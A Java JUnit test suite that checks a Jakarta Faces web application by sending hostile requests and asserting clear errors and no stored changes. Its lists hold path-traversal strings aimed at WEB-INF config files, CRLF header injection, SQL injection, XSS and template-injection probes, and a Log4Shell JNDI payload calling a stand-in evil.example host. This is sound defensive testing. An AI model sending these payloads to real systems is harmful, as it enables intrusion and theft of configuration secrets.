/* SPDX-License-Identifier: EUPL-1.2 */
package org.luwte.st;

import java.util.List;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.luwte.attack.Answers;
import org.luwte.attack.Attacker;
import org.luwte.attack.RawAnswer;
import org.luwte.attack.RawHttp;
import org.luwte.attack.SiteRoute;
import org.luwte.attack.Stored;
import org.luwte.stack.TestStack;

/** Addresses that no page of ours leads to, for every page in the table of addresses: a clear error, and nothing is stored. */
class HostileAddressesST {

    private Stored before;

    @BeforeEach
    void look() {
        Attacker.come();
        before = Stored.now();
    }

    @AfterEach
    void nothingWasStored() {
        before.assertUnchanged("hostile addresses");
    }

    @ParameterizedTest
    @EnumSource
    void tamperedPathsLeadNowhere(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        for (SiteRoute route : SiteRoute.all()) {
            String path = route.address(Attacker.texts()).replaceAll("\\?.*", "");
            for (String tampered : tampered(path)) {
                nowhere(softly, tampered, attacker.as(RawHttp.get(tampered)).send());
            }
        }
        softly.assertAll();
    }

    private static List<String> tampered(String path) {
        String rest = path.equals("/") ? "" : path;
        return List.of(
                rest + "/../WEB-INF/web.xml",
                rest + "/..%2f..%2fWEB-INF/web.xml",
                rest + "/%2e%2e/WEB-INF/oidc.json",
                rest + "/%252e%252e/%252e%252e/WEB-INF/web.xml",
                rest + "/..;/..;/WEB-INF/web.xml",
                rest + "/%c0%ae%c0%ae/WEB-INF/web.xml",
                rest + "\\..\\WEB-INF\\web.xml",
                "/" + path.replace("/", "%2f"),
                "/" + path.replace("/", "%252f"),
                "//evil.example" + path,
                "/" + path,
                rest + "//",
                rest + "/.",
                rest + "/%2e",
                rest + "/x.xhtml",
                rest + ".xhtml",
                rest + ".json",
                rest + "%00",
                rest + "%00.css",
                rest + "%20",
                rest + "%0d%0aX-Injected:%20yes",
                rest + "/%E5%98%8A%E5%98%8DX-Injected:%20yes",
                rest + ";jsessionid=0123456789abcdefghij",
                rest + ";handle=x",
                "/en/en" + path,
                "/EN" + path,
                "/nl" + path,
                rest + ".");
    }

    @ParameterizedTest
    @EnumSource
    void tamperedValuesOfAPathLeadNowhere(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        for (SiteRoute route :
                SiteRoute.all().stream().filter(SiteRoute::valued).toList()) {
            for (String value : values()) {
                String path = route.with(value);
                nowhere(softly, path, attacker.as(RawHttp.get(path)).send());
                nowhere(
                        softly,
                        "/en" + path,
                        attacker.as(RawHttp.get("/en" + path)).send());
            }
        }
        softly.assertAll();
    }

    private static List<String> values() {
        return List.of(
                "00000000000000000000000000000000",
                "stille-kamer-",
                "1",
                "-1",
                "..%2fadmin",
                "...",
                "x'--",
                "x%27%20or%20%271%27=%271",
                "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "%7B%7B7*7%7D%7D",
                "%23%7B7*7%7D",
                "$%7Bjndi:ldap:%2f%2fevil.example%2fa%7D",
                "*",
                "%25",
                "%ff%fe",
                "%e2%80%ae",
                "a".repeat(65),
                "a".repeat(5_000),
                "terms%0aX:%20y",
                "TERMS");
    }

    @ParameterizedTest
    @EnumSource
    void filesBehindThePagesAreNotThere(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        for (String path : Stream.concat(files().stream(), resources().stream()).toList()) {
            nowhere(softly, path, attacker.as(RawHttp.get(path)).send());
        }
        softly.assertAll();
    }

    private static List<String> files() {
        return List.of(
                "/WEB-INF/web.xml",
                "/WEB-INF/",
                "/WEB-INF",
                "/web-inf/web.xml",
                "/WEB-INF%2fweb.xml",
                "/%57EB-INF/oidc.json",
                "/en/WEB-INF/oidc.json",
                "/META-INF/MANIFEST.MF",
                "/META-INF/maven/",
                "/.git/config",
                "/.env",
                "/console",
                "/management",
                "/metrics",
                "/health",
                "/wildfly-services",
                "/invoker/JMXInvokerServlet",
                "/admin",
                "/server-status",
                "/crossdomain.xml",
                "/assets/../WEB-INF/web.xml",
                "/assets/..%2fWEB-INF%2fweb.xml",
                "/assets/",
                "/assets",
                "/assets/%00",
                "/enter.xhtml",
                "/community/group.xhtml",
                "/community/group.xhtml?handle=stille-kamer");
    }

    private static List<String> resources() {
        return List.of(
                "/jakarta.faces.resource/web.xml.xhtml?ln=../WEB-INF",
                "/jakarta.faces.resource/../WEB-INF/web.xml.xhtml",
                "/jakarta.faces.resource/%2e%2e/WEB-INF/web.xml.xhtml",
                "/jakarta.faces.resource/web.xml.xhtml?ln=..%2fWEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?loc=..%2f..%2fWEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?con=..%2fWEB-INF",
                "/jakarta.faces.resource/dynamiccontent.properties.xhtml?ln=primefaces&pfdrid=x&v=1&pfdrt=sc",
                "/jakarta.faces.resource/core.js.xhtml?ln=primefaces%0d%0aX-Injected:%20y",
                "/jakarta.faces.resource/nothing.js.xhtml?ln=%ff",
                "/javax.faces.resource/jsf.js.xhtml?ln=javax.faces",
                "/faces/community/groups.xhtml",
                "/rfRes/x");
    }

    @ParameterizedTest
    @EnumSource(names = "MEMBER")
    void otherMethodsDoNothing(Attacker attacker) {
        SoftAssertions softly = new SoftAssertions();
        Stream<String> servlets = Stream.of("/enter", "/leave", "/csp", "/assets/x", "/robots.txt");
        Stream<String> pages = SiteRoute.all().stream().map(route -> route.address(Attacker.texts()));
        for (String path : Stream.concat(pages, servlets).toList()) {
            for (String method :
                    List.of("TRACE", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND", "CONNECT", "FOO", "post")) {
                RawAnswer answer = attacker.as(RawHttp.of(method, path)
                                .with("Sec-Fetch-Site", "same-origin")
                                .with("X-Marker", "echo-of-the-request"))
                        .send();
                softly.assertThat(answer.status()).as(method + " " + path).isIn(400, 403, 404, 405, 501);
                softly.assertThat(answer.body()).as(method + " " + path).doesNotContain("echo-of-the-request");
                Answers.discreet(softly, method + " " + path, answer);
            }
            if (path.equals("/leave")) {
                continue; // goes out by GET, as it should
            }
            for (String header : List.of("X-HTTP-Method-Override")) {
                RawAnswer answer = attacker.as(RawHttp.get(path + (path.contains("?") ? "&" : "?") + "_method=DELETE")
                                .with(header, "DELETE"))
                        .send();
                softly.assertThat(answer.status()).as(header + " " + path).isLessThan(500);
            }
        }
        softly.assertAll();
    }

    /** A clear error, or the way to the same address without a slash too many. */
    private static void nowhere(SoftAssertions softly, String how, RawAnswer answer) {
        softly.assertThat(answer.headers().keySet()).as(how).doesNotContain("x-injected", "x");
        if (answer.status() / 100 == 3) {
            softly.assertThat(answer.header("Location"))
                    .as("Location: " + how)
                    .matches("(" + TestStack.get().baseUrl() + ")?/[a-zA-Z0-9].*|/");
            Answers.discreet(softly, how, answer);
        } else {
            Answers.refused(softly, how, answer);
        }
    }
}
